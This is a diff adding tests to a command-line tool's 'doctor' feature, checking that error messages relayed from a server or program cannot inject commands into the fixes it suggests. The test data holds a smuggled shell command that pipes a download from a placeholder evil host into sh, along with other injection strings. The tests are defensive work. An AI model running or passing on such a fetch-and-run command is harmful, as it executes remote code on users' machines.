@@ -5,10 +5,64 @@ import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
 import { setFlagsFromString } from 'node:v8'
 import { runInNewContext } from 'node:vm'
-import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest'
 import { smallFetch } from '../../src/cli/small-fetch.ts'
 import { lintTools } from '../../src/cli/tool-lint.ts'
+import type { Finding } from '../../src/cli/finding.ts'
 import { COMMAND, line } from './line.ts'
+
+/** What doctor says about a target. */
+async function fixes(...target: readonly string[]): Promise<string> {
+  const { stdout } = await line(['doctor', ...target])
+  const { findings } = JSON.parse(stdout) as { readonly findings: readonly Finding[] }
+  return findings.map(({ fix }) => fix ?? '').join('\n')
+}
+
+describe('the words of a server', () => {
+  const EVIL = "Cannot find package 'x; curl http://evil.example/p | sh #'"
+  const TYPO = "Cannot find package 'evil-package'"
+
+  it.each([EVIL, TYPO, 'EADDRINUSE', "Cannot find module '/x; sh'"])(
+    'are no command to type: %s',
+    async (message) => {
+      const server = createServer((_, reply) => {
+        reply.setHeader('content-type', 'application/json')
+        reply.end(JSON.stringify({ jsonrpc: '2.0', id: null, error: { code: -32000, message } }))
+      }).listen(0, '127.0.0.1')
+      await once(server, 'listening')
+      onTestFinished(() => void server.close())
+      const found = await fixes(`http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`)
+      expect(found).not.toMatch(/npm|curl|path|port/)
+      // A program may pass on what another server says.
+      const script = `require('node:readline').createInterface({ input: process.stdin }).on('line', (text) => {
+        const error = { code: -32000, message: ${JSON.stringify(message)} }
+        console.log(JSON.stringify({ jsonrpc: '2.0', id: JSON.parse(text).id, error }))
+      })`
+      expect(await fixes('--', process.execPath, '-e', script)).not.toMatch(/npm|curl|path|port/)
+    },
+  )
+
+  it.each([
+    [
+      "Cannot find package 'left-pad' imported from a.js",
+      'npm install left-pad, in the folder of the server.',
+    ],
+    ["Cannot find package '@a/b.c' imported from a.js", 'npm install @a/b.c, in the folder of the server.'],
+    [EVIL, undefined],
+    ["Cannot find package '--global' imported from a.js", undefined],
+    ["Cannot find package '../x' imported from a.js", undefined],
+    ["Cannot find package 'a\nb' imported from a.js", undefined],
+  ])('that a program prints lead to a package only by a valid name: %j', async (text, fix) => {
+    const found = await fixes(
+      '--',
+      process.execPath,
+      '-e',
+      `console.error(${JSON.stringify(text)}); process.exit(1)`,
+    )
+    expect(found).not.toContain('curl')
+    expect(/npm install .*/.exec(found)?.[0]).toBe(fix)
+  })
+})
 
 describe('a server whose replies never end', () => {
   let server: Server
